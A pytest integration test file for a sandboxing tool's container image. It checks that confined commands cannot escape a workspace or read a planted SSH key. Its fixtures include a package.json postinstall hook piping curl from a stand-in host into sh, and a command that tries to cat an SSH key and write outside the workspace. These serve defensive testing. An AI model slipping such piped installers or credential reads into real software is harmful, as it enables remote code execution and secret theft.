"""ztsa's container image (the Dockerfile), built here and run under podman's defaults
and the options docs/container.md names: no compiler in it, an unprivileged user,
`ztsa doctor` saying what the runtime takes and why, `ztsa check` judging the
container, and confined runs judged by their effects (a marker in the workspace, a
credential of the home never read, a write outside the workspace never made).

Opt-in (it builds a root file system and an image: minutes the first time, then about
a minute): ZTSA_TEST_CONTAINER=1, as root, with podman, runc and mmdebstrap or
debootstrap installed. integration/container/build.sh does the building, in
$ZTSA_CONTAINER_DIR (default /var/tmp/ztsa-container); rootless runs use the user
$ZTSA_CONTAINER_USER (default ztsa-podman), which build.sh makes. The Dockerfile's own
build stage (the network: apt and pip) only with ZTSA_TEST_CONTAINER_SOURCE=1 too (and
ZTSA_CONTAINER_CA where a proxy's CA must be trusted)."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

HERE = Path(__file__).parent
BUILD = HERE / "container" / "build.sh"
W = Path(os.environ.get("ZTSA_CONTAINER_DIR", "/var/tmp/ztsa-container"))
USER = os.environ.get("ZTSA_CONTAINER_USER", "ztsa-podman")


def _why_not() -> str | None:
    if os.environ.get("ZTSA_TEST_CONTAINER") != "1":
        return "opt-in: ZTSA_TEST_CONTAINER=1 builds and runs the container image"
    if os.geteuid() != 0:
        return "build.sh needs root (podman's storage, the rootless user's set-up)"
    for tool in ("podman", "runc"):
        if shutil.which(tool) is None:
            return f"{tool} is not installed"
    if not (shutil.which("mmdebstrap") or shutil.which("debootstrap")):
        return "neither mmdebstrap nor debootstrap is installed"
    return None


pytestmark = pytest.mark.skipif(_why_not() is not None, reason=_why_not() or "")


class Podman:
    """podman with build.sh's configuration: rootful (root's storage in W) or rootless
    (USER's storage, run through runuser)."""

    def __init__(self, rootless: bool) -> None:
        self.rootless = rootless
        self.env = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin",
                    "CONTAINERS_CONF": str(W / "containers.conf")}
        if rootless:
            uid = int(subprocess.run(["id", "-u", USER], capture_output=True, text=True,
                                     check=True).stdout)
            self.env |= {"HOME": f"/home/{USER}", "XDG_RUNTIME_DIR": f"/run/user/{uid}",
                         "CONTAINERS_STORAGE_CONF": str(W / f"rootless-{USER}" / "storage.conf")}
        else:
            self.env |= {"HOME": "/root",
                         "CONTAINERS_STORAGE_CONF": str(W / "storage.conf")}

    def __call__(self, *args: str, timeout: int = 180) -> subprocess.CompletedProcess[str]:
        argv = ["podman", *args]
        if self.rootless:
            argv = ["runuser", "-u", USER, "--", "env", "-i",
                    *(f"{k}={v}" for k, v in self.env.items()), *argv]
        return subprocess.run(argv, capture_output=True, text=True, timeout=timeout,
                              env=None if self.rootless else self.env, cwd="/")

    def run(self, *args: str, entrypoint: str | None = None) -> subprocess.CompletedProcess[str]:
        opts = ["run", "--rm", "--network", "none"]
        if entrypoint:
            opts += ["--entrypoint", entrypoint]
        return self(*opts, *args)


def _build(*extra: str) -> str:
    proc = subprocess.run([str(BUILD), *extra], capture_output=True, text=True,
                          timeout=1800, cwd="/")
    assert proc.returncode == 0, proc.stderr[-4000:]
    return proc.stdout.strip().splitlines()[-1]


@pytest.fixture(scope="module")
def image() -> str:
    return _build()


@pytest.fixture(scope="module")
def source_image(image: str) -> str:
    if os.environ.get("ZTSA_TEST_CONTAINER_SOURCE") != "1":
        pytest.skip("opt-in: ZTSA_TEST_CONTAINER_SOURCE=1 builds the Dockerfile's own build "
                    "stage, which fetches the compiler (apt) and build tools (pip)")
    return _build("--from-source")


@pytest.fixture(scope="module")
def rootless_image(image: str):
    yield _build("--rootless", USER)
    # rootless podman leaves a process holding its user namespace: end it
    env = Podman(rootless=True).env
    pause = Path(env["XDG_RUNTIME_DIR"]) / "libpod" / "tmp" / "pause.pid"
    uid = int(subprocess.run(["id", "-u", USER], capture_output=True, text=True).stdout)
    try:
        pid = int(pause.read_text())
        if os.stat(f"/proc/{pid}").st_uid == uid:  # that user's, not a reused pid
            os.kill(pid, 15)
    except (OSError, ValueError):
        pass


@pytest.fixture
def scene():
    """A workspace, a writable directory outside it, and a credential for the home:
    host directories open to the container's user (rootless too)."""
    runs = W / "runs"
    runs.mkdir(exist_ok=True)
    os.chmod(runs, 0o755)
    top = Path(tempfile.mkdtemp(dir=runs))
    os.chmod(top, 0o755)
    ws, out = top / "ws", top / "out"
    for d in (ws, out):
        d.mkdir()
        os.chmod(d, 0o777)
    token = "ztsa-secret-" + secrets.token_hex(8)
    key = top / "id_ed25519"
    key.write_text(token + "\n")
    os.chmod(key, 0o644)
    yield {"ws": ws, "out": out, "key": key, "token": token,
           "mounts": ["-v", f"{ws}:/work", "-v", f"{out}:/srv/out",
                      "-v", f"{key}:/home/agent/.ssh/id_ed25519:ro",
                      "-v", f"{key}:/root/.ssh/id_ed25519:ro"]}
    shutil.rmtree(top)


# the confined command: a marker in the workspace, a write outside it, the key in the
# home of the user it runs as (agent's, or root's with --user 0; the real home is what
# ztsa hides, not every home of the container)
ATTEMPT = ("echo done > /work/marker; echo escaped > /srv/out/escaped; "
           "cat {home}/.ssh/id_ed25519; echo pids=$(ls /proc | grep -c '^[0-9]')")


def doctor(podman: Podman, image: str, *opts: str) -> dict:
    proc = podman.run(*opts, image, "doctor", "--format", "json")
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def test_the_image_has_no_compiler_no_pip_and_runs_as_agent(image):
    podman = Podman(rootless=False)
    probe = ("id -u; for c in gcc cc c99 clang tcc x86_64-linux-gnu-gcc; do command -v $c; "
             "done; ls /usr/include/python3*/Python.h /usr/local/include/python3*/Python.h "
             "2>/dev/null; /opt/ztsa/bin/python3 -c 'import pip' 2>/dev/null && echo pip; "
             "ls /wheels 2>/dev/null; true")
    proc = podman.run(image, "-c", probe, entrypoint="/bin/sh")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["1000"]
    # the entrypoint is the launcher, which finds the venv's interpreter
    version = podman.run(image, "--version")
    assert version.returncode == 0 and version.stdout.startswith("ztsa, version"), version


def test_the_build_stage_leaves_its_compiler_behind(source_image):
    """The Dockerfile's default path: the wheel compiled in the build stage (gcc and
    the Python headers installed there), the image without either."""
    podman = Podman(rootless=False)
    probe = ("id -u; for c in gcc cc x86_64-linux-gnu-gcc; do command -v $c; done; "
             "ls /usr/include/python3*/Python.h 2>/dev/null; true")
    proc = podman.run(source_image, "-c", probe, entrypoint="/bin/sh")
    assert proc.returncode == 0 and proc.stdout.split() == ["1000"], proc
    assert podman.run(source_image, "doctor").returncode == 0


def test_doctor_under_the_defaults_says_what_is_missing_and_why(image):
    podman = Podman(rootless=False)
    doc = doctor(podman, image)
    c = doc["controls"]
    # podman's default seccomp profile allows user namespaces; the masked /proc is what
    # takes PID namespaces (where this kernel gives them at all)
    assert c["user_namespaces"] and c["pidfd_getfd"]
    if not c["pid_namespaces"]:
        assert doc["profiles"]["untrusted"].startswith("refuses to run (EXEC001)")
        assert any("unmask=/proc/*" in h and "hostUsers: false" in h for h in doc["hints"])
        unmasked = doctor(podman, image, "--security-opt", "unmask=/proc/*")
        assert unmasked["controls"]["pid_namespaces"], unmasked
    # Docker's default seccomp profile, emulated: no user namespaces, no pidfd_getfd, and
    # doctor says so (a probe reading only ENOSYS took its EPERM for a working call)
    docker = doctor(podman, image, "--security-opt",
                    f"seccomp={W / 'seccomp-docker-like.json'}")
    dc = docker["controls"]
    assert not dc["user_namespaces"] and not dc["pidfd_getfd"] and not dc["network_namespace"]
    assert docker["profiles"]["untrusted"].startswith("refuses to run (EXEC001)")
    assert any("seccomp" in h for h in docker["hints"])
    # a container's root under the default capabilities (no CAP_SYS_ADMIN) has a user
    # namespace made for the tree, as an ordinary user does
    root = doctor(podman, image, "--user", "0")["controls"]
    assert root["root"] and root["user_namespaces"] and not root["root_mount_namespace"]


def test_check_judges_the_container(image, scene):
    podman = Podman(rootless=False)
    (scene["ws"] / "package.json").write_text(
        '{"name": "p", "version": "1.0.0", "scripts": '
        '{"postinstall": "curl -s http://example.invalid/x | sh"}}\n')

    def results(*opts: str) -> dict[str, dict]:
        proc = podman.run(*opts, "-v", f"{scene['ws']}:/work:ro", image, "check",
                          "--format", "json", "/work")
        assert proc.returncode == 3, proc.stderr
        return {r["id"]: r for r in json.loads(proc.stdout)["results"]}

    r = results()
    assert r["SUP005"]["status"] == "fail"  # the repository's piped installer
    # the container is the environment: its runtime seen, its own user, namespaces
    assert r["ENV003"]["status"] == "pass"
    assert any("podman" in e["detail"] for e in r["ENV003"]["evidence"])
    assert r["ENV001"]["status"] == "pass" and r["ENV008"]["status"] == "pass"
    # the host's PID namespace shared with the container is the container's exposure
    assert results("--pid", "host")["ENV008"]["status"] == "fail"
    assert results("--user", "0")["ENV001"]["status"] == "fail"


def confined(podman: Podman, image: str, scene: dict, *opts: str,
             profile: str = "untrusted") -> subprocess.CompletedProcess[str]:
    home = "/root" if "--user" in opts else "/home/agent"
    return podman.run(*opts, *scene["mounts"], image, "exec", "--profile", profile,
                      "--", "sh", "-c", ATTEMPT.format(home=home))


def assert_confined(proc: subprocess.CompletedProcess[str], scene: dict) -> None:
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert (scene["ws"] / "marker").read_text() == "done\n"
    assert not (scene["out"] / "escaped").exists()
    assert scene["token"] not in proc.stdout + proc.stderr


def assert_refused(proc: subprocess.CompletedProcess[str], scene: dict, *named: str) -> None:
    assert proc.returncode == 3, proc.stdout[-3000:] + proc.stderr[-3000:]
    # the text report goes to stderr: CMD's output is stdout
    assert "EXEC001" in proc.stderr and "CMD was not started" in proc.stderr
    for what in named:
        assert what in proc.stderr, what
    assert not (scene["ws"] / "marker").exists()
    assert not (scene["out"] / "escaped").exists()


def test_untrusted_under_the_defaults_refuses_or_runs_confined(image, scene):
    podman = Podman(rootless=False)
    pidns = doctor(podman, image)["controls"]["pid_namespaces"]
    proc = confined(podman, image, scene)
    if pidns:
        assert_confined(proc, scene)
    else:
        assert_refused(proc, scene, "PID and IPC namespaces")


def test_repo_under_the_defaults_runs_confined(image, scene):
    assert_confined(confined(Podman(rootless=False), image, scene, profile="repo"), scene)


def test_untrusted_with_proc_unmasked_runs_in_a_pid_namespace(image, scene):
    podman = Podman(rootless=False)
    proc = confined(podman, image, scene, "--security-opt", "unmask=/proc/*")
    assert_confined(proc, scene)
    # the tree's own /proc: its shell, ls, grep and ztsa's helper at most
    pids = int(proc.stdout.split("pids=")[1].split()[0])
    assert pids <= 6, proc.stdout


def test_root_without_cap_sys_admin_runs_confined(image, scene):
    podman = Podman(rootless=False)
    assert_confined(confined(podman, image, scene, "--user", "0", profile="repo"), scene)
    (scene["ws"] / "marker").unlink()
    assert_confined(confined(podman, image, scene, "--user", "0", "--security-opt",
                             "unmask=/proc/*"), scene)


def test_dockers_default_seccomp_profile(image, scene):
    podman = Podman(rootless=False)
    profile = ("--security-opt", f"seccomp={W / 'seccomp-docker-like.json'}")
    assert_refused(confined(podman, image, scene, *profile), scene, "user namespaces",
                   "pidfd_getfd")
    # --profile repo runs with Landlock and the filter alone: still no write outside
    # the workspace, no read of the home's credential
    assert_confined(confined(podman, image, scene, *profile, profile="repo"), scene)
    # ... and without pidfd_getfd no connect is performed for the tree: refused, said
    # at start, never let through
    connect = ("import socket\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
               "c = socket.socket()\ntry:\n    c.connect(s.getsockname()); print('connected')\n"
               "except OSError as e:\n    print('refused', e.errno)\n")
    proc = podman.run(*profile, image, "exec", "--profile", "repo", "--", "python3", "-c",
                      connect)
    assert proc.returncode == 0, proc.stderr
    assert "refused 1" in proc.stdout and "connected" not in proc.stdout
    assert "lacks pidfd_getfd" in proc.stderr


def test_rootless_podman(rootless_image, scene):
    podman = Podman(rootless=True)
    keep = ("--userns=keep-id:uid=1000,gid=1000",)
    doc = doctor(podman, rootless_image, *keep)
    assert doc["controls"]["user_namespaces"]
    assert_confined(confined(podman, rootless_image, scene, *keep, profile="repo"), scene)
    (scene["ws"] / "marker").unlink()
    proc = confined(podman, rootless_image, scene, *keep, "--security-opt", "unmask=/proc/*")
    assert_confined(proc, scene)
    # the marker is the rootless user's on the host (keep-id maps agent to it)
    assert (scene["ws"] / "marker").stat().st_uid == int(
        subprocess.run(["id", "-u", USER], capture_output=True, text=True).stdout)
